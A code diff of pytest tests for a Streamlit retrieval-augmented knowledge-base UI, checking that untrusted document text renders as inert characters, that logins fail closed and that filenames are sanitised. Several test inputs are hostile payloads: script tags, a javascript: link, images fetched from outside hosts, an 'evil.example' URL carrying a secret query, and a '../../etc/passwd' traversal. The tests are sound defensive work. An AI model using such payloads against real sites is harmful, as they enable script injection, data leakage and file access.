@@ -10,24 +10,25 @@ from __future__ import annotations
 import json
 import re
 import shutil
-import sys
 import tomllib
+import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 import streamlit as st
+from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
+import hostile
 from conftest import FIXTURES, REPO, make_bad_files
 from ollama_server import OllamaServer
-from ragkb.access import add_user
 from ragkb.config import Settings
 from ragkb.ingest import Ingestor
-
-sys.path.insert(0, str(REPO / "ui"))
-import kbui  # noqa: E402
+from ragkb.runtime import Runtime
+from ragkb.users import add_user
+from ui import markup, sources, uploads
 
 APP = REPO / "ui" / "app.py"
 TIMEOUT = 120  # the first run in a process loads MiniLM
@@ -53,11 +54,8 @@ def base(tmp_path_factory: pytest.TempPathFactory, embedder) -> dict[str, Path]:
     bad = root / "bad"
     make_bad_files(bad)
     home = root / "home"
-    ingestor = Ingestor(Settings(home=home, max_file_mb=1), embedder=embedder)
-    try:
-        report = ingestor.run([docs, bad])
-    finally:
-        ingestor.close()  # releases the embedded Qdrant folder for the app
+    with Runtime(Settings(home=home, max_file_mb=1), embedder=embedder) as runtime:  # closed: the app opens the store
+        report = Ingestor(runtime).run([docs, bad])
     assert report.added == 7 and len(report.failed) == BAD_COUNT, report
     users = root / "users.toml"
     user_settings = Settings(home=home, users_file=users)
@@ -93,9 +91,19 @@ def _ask(at: AppTest, question: str) -> AppTest:
     return _ok(at.run())
 
 
+def _shown(markdown: str) -> str:
+    """The text a Markdown string built with `markup.md` shows: escapes resolved, the invisible
+    word joiners gone, hard line breaks as line breaks."""
+    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown).replace(markup.WORD_JOINER, "").replace("  \n", "\n")
+
+
+def _values(elements: Any) -> str:
+    return " ".join(_shown(e.value) for e in elements)
+
+
 def _chip_map(pills: Any) -> dict[int, str]:
-    """Citation chips of one answer: number -> label."""
-    labels = list(pills.options)
+    """Citation chips of one answer: number -> label as shown."""
+    labels = [_shown(label) for label in pills.options]
     numbers = [int(re.match(r"\[(\d+)\]", label).group(1)) for label in labels]  # type: ignore[union-attr]
     return dict(zip(numbers, labels))
 
@@ -123,29 +131,29 @@ def test_streamed_answer_shows_citation_chips_and_the_cited_passage(home: Path, 
         monkeypatch.setenv("RAGKB_LLM_BACKEND", "ollama")
         monkeypatch.setenv("RAGKB_OLLAMA_URL", server.url)
         at = _ok(_app().run())
-        assert "ollama:llama3.2:3b" in " ".join(m.value for m in at.sidebar.markdown)
+        assert "ollama:llama3.2:3b" in _values(at.sidebar.markdown)
         assert len(at.chat_input) == 1 and not at.pills
         _ask(at, "When was the memo written?")
         assert len(server.requests_to("/api/chat")) == 1
 
     user, answer = at.chat_message
     assert user.name == "user" and answer.name == "assistant"
-    text = answer.markdown[0].value
+    text = _shown(answer.markdown[0].value)
     assert "May 5, 2023" in text and "[99]" not in text
     # The invalid citation was removed, and that is said on screen.
-    assert any("[99]" in w.value for w in answer.warning)
+    assert "[99]" in _values(answer.warning)
     chips = _chip_map(at.pills[0])
     assert len(chips) == 1
     (n, label), = chips.items()
     assert label == f"[{n}] fake-memo.pdf p.1" and f"[{n}]" in text
-    assert re.search(r"Answered by `ollama:llama3.2:3b` · retrieve [\d,]+ ms .*· generate [\d,]+ ms · total [\d,]+ ms", answer.caption[-1].value)
+    assert re.search(r"Answered by ollama:llama3.2:3b · (load_models [\d,]+ ms · )?retrieve [\d,]+ ms .*· generate [\d,]+ ms · total [\d,]+ ms", _shown(answer.caption[-1].value))
 
     at.pills[0].set_value(n)
     _ok(at.run())
     preview = at.html[0].value
     assert "<mark" in preview and "May 5, 2023" in preview.split("<mark", 1)[1]
-    assert any("fake-memo.pdf" in m.value and "page 1" in m.value for m in at.markdown)
-    assert [b.label for b in at.download_button] == ["Download fake-memo.pdf"]
+    assert any("fake-memo.pdf" in _shown(m.value) and "page 1" in m.value for m in at.markdown)
+    assert [_shown(b.label) for b in at.download_button] == ["Download fake-memo.pdf"]
 
     (record,) = _audit(home)
     assert record["channel"] == "ui" and record["user"] == "anonymous" and record["question"] == "When was the memo written?"
@@ -158,7 +166,7 @@ def test_streamed_answer_shows_citation_chips_and_the_cited_passage(home: Path, 
         _ask(at, "Is there a canteen?")
     assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
     last = at.chat_message[3]
-    assert any("cites none" in w.value for w in last.warning)  # flagged: shown, with the passages
+    assert "cites none" in _values(last.warning)  # flagged: shown, with the passages
     assert "not cited" in at.pills[-1].label
     assert _audit(home)[-1]["flagged"] is True
 
@@ -213,23 +221,24 @@ def test_empty_knowledge_base_says_so(tmp_path: Path, monkeypatch):
         at = _ok(_app().run())
         assert "No documents are ingested yet" in at.info[0].value
         _ask(at, "Anything?")
-        assert at.chat_message[1].markdown[0].value == "I don't know based on the available documents."
+        assert _shown(at.chat_message[1].markdown[0].value) == "I don't know based on the available documents."
         assert not at.pills
     finally:
         st.cache_resource.clear()
 
 
-def test_store_held_by_another_client_is_reported_not_crashed(home: Path):
+def test_store_held_by_another_client_is_reported_not_crashed(home: Path, monkeypatch):
     from ragkb.store import Store
 
+    monkeypatch.setenv("RAGKB_STORE_READ_WAIT_S", "0.5")
     holder = Store(Settings(home=home))  # e.g. a `ragkb ingest` run holding the embedded Qdrant
     try:
         at = _ok(_app().run())
         _ask(at, "When was the memo written?")
-        assert "open in another process" in at.chat_message[-1].error[0].value
+        assert "in use by another process" in _shown(at.chat_message[-1].error[0].value)
         at.switch_page("admin.py")
         _ok(at.run())
-        assert "Cannot open the knowledge base" in at.error[0].value
+        assert "Cannot open the knowledge base" in _values(at.error)
     finally:
         holder.close()
     at.switch_page("chat.py")
@@ -244,11 +253,11 @@ def test_login_required_when_users_are_configured(home: Path, base: dict[str, Pa
     assert not at.chat_input and at.text_input(key="login_password").proto.type == 1  # password field
 
     _sign_in(at, "alice", "not-her-password")
-    assert [e.value for e in at.error] == ["invalid user name or password"]
+    assert [_shown(e.value) for e in at.error] == ["invalid user name or password"]
     assert not at.chat_input and "identity" not in at.session_state
 
     _sign_in(at, "nobody", PASSWORDS["alice"])
-    assert [e.value for e in at.error] == ["invalid user name or password"]  # no user probing
+    assert [_shown(e.value) for e in at.error] == ["invalid user name or password"]  # no user probing
 
     _sign_in(at, "alice", PASSWORDS["alice"])
     assert len(at.chat_input) == 1 and not at.error
@@ -268,7 +277,7 @@ def test_users_only_ever_see_citations_they_may_read(home: Path, base: dict[str,
         labels = " ".join(_chip_map(at.pills[-1]).values())
         seen[user] = {label for label in labels.split()}
         assert Path(hidden).name not in labels
-        assert Path(hidden).name not in at.chat_message[-1].markdown[0].value
+        assert Path(hidden).name not in _shown(at.chat_message[-1].markdown[0].value)
         record = _audit(home)[-1]
         assert record["user"] == user and hidden not in record["sources"]
     assert "fake-memo.pdf" in seen["alice"] and "fake-email.eml" in seen["bob"]
@@ -284,11 +293,11 @@ def test_trusted_header_names_the_user(home: Path, base: dict[str, Path], monkey
     monkeypatch.setattr(type(st.context), "headers", property(lambda self: headers))
 
     at = _ok(_app().run())
-    assert not at.chat_input and "X-Remote-User" in at.error[0].value  # no header: no access
+    assert not at.chat_input and "X-Remote-User" in _values(at.error)  # no header: no access
 
     headers["X-Remote-User"] = "mallory"
     at = _ok(_app().run())
-    assert not at.chat_input and "mallory" in at.error[0].value  # unknown to the users file
+    assert not at.chat_input and "mallory" in _values(at.error)  # unknown to the users file
 
     headers["X-Remote-User"] = "alice"
     at = _ok(_app().run())
@@ -342,7 +351,7 @@ def test_upload_ingests_and_forget_removes(home: Path, base: dict[str, Path]):
     forget.set_value(str(saved))
     next(b for b in at.button if b.label == "Forget").click()
     _ok(at.run())
-    assert any("Forgot 1 file" in s.value for s in at.success)
+    assert "Forgot 1 file" in _values(at.success)
     assert not saved.exists()  # the uploaded copy goes too
     assert {m.label: m.value for m in at.metric}["Documents"] == "7"
     assert str(saved) not in at.selectbox(key="forget_path").options
@@ -377,29 +386,174 @@ def test_admin_page_is_hidden_from_non_admins(home: Path, base: dict[str, Path],
     assert [t.label for t in root.tabs] == ["Status", "Add documents", "Forget a document"]
 
 
+# --- documents that carry Markdown (issue 10, item 2) -------------------------------------------
+_MARKDOWN = MarkdownIt("commonmark")
+# remark-gfm's autolink literals, as Streamlit's frontend finds them in the text after escapes
+# are resolved; only at the start of a text, after white space or after punctuation.
+_GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE | re.ASCII)
+_GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)
+_LIVE_MATH = re.compile(r"(?<!\\)(?:\\\\)*\$")  # a "$" after an even number of backslashes
+
+
+def _boundary(text: str, i: int) -> bool:
+    return i == 0 or text[i - 1].isspace() or unicodedata.category(text[i - 1])[0] in "PS"
+
+
+def _live_markup(markdown: str) -> list[str]:
+    """What in `markdown` a browser would fetch, follow or typeset: images, links, autolinks,
+    raw HTML, GFM's bare URLs and emails, and `$` math. Empty for inert text."""
+    found: list[str] = []
+
+    def walk(tokens: list[Any]) -> None:
+        for token in tokens:
+            if token.type in ("image", "link_open", "html_inline", "html_block"):
+                found.append(f"{token.type}: {token.attrs or token.content}")
+            if token.type == "text":
+                text = token.content
+                for i in range(len(text)):
+                    if _boundary(text, i) and _GFM_URL.match(text, i):
+                        found.append(f"bare url: {text[i:i + 40]}")
+                    if _boundary(text, i) and text[i - 1 : i] != "/" and _GFM_EMAIL.match(text, i):
+                        found.append(f"bare email: {text[i:i + 40]}")
+            walk(token.children or [])
+
+    walk(_MARKDOWN.parse(markdown))
+    if _LIVE_MATH.search(markdown):
+        found.append("math")
+    return found
+
+
+PAYLOADS = [
+    hostile.SUBJECT,
+    hostile.HEADING,
+    f"/srv/docs/{hostile.FOLDER}/canteen.md",
+    hostile.FILE_NAME,
+    hostile.MODEL_ANSWER,
+    "autolinks <http://203.0.113.5/a> <mailto:m@example.org> and bare http://203.0.113.5/b, www.example.org, m@example.org",
+    "![a][1]\n[1]: http://203.0.113.5/ref.png",
+    "<img src=//203.0.113.5/i.png>",
+    "$x$ and $$y^2$$",
+    "[text](javascript:alert(1)) :red[red] <script>alert(1)</script> &lt;img&gt;",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_md_renders_untrusted_text_as_its_characters(payload: str):
+    assert _live_markup(payload), "the payload should be live Markdown (else this test proves nothing)"
+    shown = markup.md(payload)
+    assert _live_markup(shown) == []
+    assert _shown(shown) == payload  # nothing lost, nothing added that is visible
+    assert _live_markup(markup.md(shown)) == []  # escaping twice is still inert
+
+
+def _rendered_markdown(at: AppTest) -> list[str]:
+    """Every string the app handed Streamlit to render as Markdown: text elements, alerts,
+    labels of chips and buttons, table cells."""
+    texts = [e.value for kind in ("markdown", "caption", "warning", "error", "info", "success") for e in at.get(kind)]
+    texts += [e.value for e in at.title] + [e.value for e in at.subheader]
+    for pills in at.pills:
+        texts += [pills.label, *pills.options]
+    texts += [b.label for b in at.button] + [b.label for b in at.download_button]
+    for table in at.table:
+        texts += [str(v) for v in table.value.to_numpy().ravel()]
+    return texts
+
+
+@pytest.fixture(scope="module")
+def hostile_base(tmp_path_factory: pytest.TempPathFactory, embedder) -> tuple[Path, list[hostile.Case]]:
+    root = tmp_path_factory.mktemp("ui-hostile")
+    cases = hostile.make_hostile_docs(root / "docs")
+    (cases[2].path.parent / "empty.txt").write_bytes(b"")  # a failure listed under the hostile folder
+    home = root / "home"
+    with Runtime(Settings(home=home), embedder=embedder) as runtime:
+        report = Ingestor(runtime).run([root / "docs"])
+    assert report.added == len(cases) and len(report.failed) == 1, report
+    return home, cases
+
+
+def test_document_markdown_is_shown_never_fetched_or_linked(hostile_base, tmp_path: Path, monkeypatch):
+    """Section titles, email subjects, file and folder names and the model's answer reach the
+    chips, the source card, captions and the admin page as text: nothing to fetch or follow."""
+    base_home, cases = hostile_base
+    home = tmp_path / "home"
+    shutil.copytree(base_home, home)
+    monkeypatch.setenv("RAGKB_HOME", str(home))
+    try:
+        with OllamaServer(hostile.hostile_model) as server:
+            monkeypatch.setenv("RAGKB_LLM_BACKEND", "ollama")
+            monkeypatch.setenv("RAGKB_OLLAMA_URL", server.url)
+            at = _ok(_app().run())
+            folder = str(cases[2].path.parent)
+            assert folder in at.sidebar.selectbox(key="folder").options  # a plain-text widget: as it is
+            for case in cases:
+                _ask(at, case.question)
+                answer = at.chat_message[-1]
+                assert "It says so in the document" in _shown(answer.markdown[0].value)
+                assert hostile.MODEL_ANSWER.split("\n")[0] in _shown(answer.markdown[0].value)  # as typed, not typeset
+                chips = _chip_map(at.pills[-1])
+                (n,) = [n for n, label in chips.items() if case.path.name[:20] in label]
+                at.pills[-1].set_value(n)
+                _ok(at.run())
+                shown = " ".join(_shown(text) for text in _rendered_markdown(at))
+                assert case.payload in shown, (case.name, shown)
+                for text in _rendered_markdown(at):
+                    assert _live_markup(text) == [], (case.name, text)
+            at.switch_page("admin.py")
+            _ok(at.run())
+            texts = _rendered_markdown(at)
+            assert texts and all(_live_markup(text) == [] for text in texts), texts
+            assert any(hostile.FOLDER in f for f in at.dataframe[0].value["file"])  # plain-text cells
+    finally:
+        st.cache_resource.clear()
+        st.cache_data.clear()
+
+
+def test_too_long_question_is_refused_with_a_clear_error(home: Path, monkeypatch):
+    """The box stops at RAGKB_MAX_QUESTION_CHARS (the browser refuses more, Streamlit cuts what
+    a client sends anyway); a longer question arriving regardless gets an error, not an answer."""
+    monkeypatch.setenv("RAGKB_MAX_QUESTION_CHARS", "50")
+    at = _ok(_app().run())
+    assert at.chat_input[0].max_chars == 50
+    monkeypatch.setattr(st, "chat_input", lambda *args, **kwargs: "Why? " * 30)
+    _ok(at.run())
+    assert "the question is 149 characters long; the limit is 50" in _values(at.error)
+    assert not at.chat_message and not _audit(home)  # neither asked nor kept
+
+
+def test_missing_users_file_fails_closed(home: Path, tmp_path: Path, monkeypatch):
+    """RAGKB_USERS_FILE naming no file is an error, never single-user mode with every document."""
+    monkeypatch.setenv("RAGKB_USERS_FILE", str(tmp_path / "missing-users.toml"))
+    at = _ok(_app().run())
+    assert "missing-users.toml" in _values(at.error) and "does not exist" in _values(at.error)
+    assert not at.chat_input and not at.text_input and not at.sidebar.markdown
+
+
 # --- helpers and shipped configuration ---------------------------------------------------------
-def test_untrusted_text_cannot_fetch_or_inject():
-    assert kbui.safe_markdown("see ![x](http://evil.example/?q=secret) for $5 and $6") == (
-        r"see !\[x](http://evil.example/?q=secret) for \$5 and \$6"
-    )
-    html = kbui.highlighted_html("<img src=http://evil.example/a.png>", "<script>1</script>", "")
+def test_preview_and_upload_names_are_escaped():
+    html = sources.highlighted_html("<img src=http://evil.example/a.png>", "<script>1</script>", "")
     assert "<img" not in html and "<script" not in html and "&lt;img" in html
-    assert kbui.safe_filename("../../etc/passwd") == "passwd"
-    assert kbui.safe_filename("C:\\Users\\x\\report (v2).pdf") == "report (v2).pdf"
+    assert uploads.safe_filename("../../etc/passwd") == "passwd"
+    assert uploads.safe_filename("C:\\Users\\x\\report (v2).pdf") == "report (v2).pdf"
     with pytest.raises(ValueError):
-        kbui.safe_filename("..")
+        uploads.safe_filename("..")
 
 
 def test_ages_read_like_a_person_would_say_them():
-    assert [kbui.fmt_ago(1000 - d, now=1000) for d in (5, 120, 7200, 86400, 3 * 86400)] == [
+    assert [markup.fmt_ago(1000 - d, now=1000) for d in (5, 120, 7200, 86400, 3 * 86400)] == [
         "just now", "2 min ago", "2 h ago", "1 day ago", "3 days ago"
     ]
-    assert kbui.fmt_ago(None) == "—"
+    assert markup.fmt_ago(None) == "—"
 
 
 def test_passage_context_drops_the_chunk_overlap():
-    before, after = kbui._strip_overlap("one two three four five", "four five six seven", "six seven eight nine")
+    before, after = sources.strip_overlap("one two three four five", "four five six seven", "six seven eight nine")
     assert (before, after) == ("one two three", "eight nine")
+
+
+def test_ui_files_stay_small():
+    """Issue 11: a thin UI, every file of it readable in one sitting."""
+    sizes = {path.name: len(path.read_text().splitlines()) for path in (REPO / "ui").glob("*.py")}
+    assert max(sizes.values()) <= 300, sizes
 
 
 def test_shipped_streamlit_config_is_private():
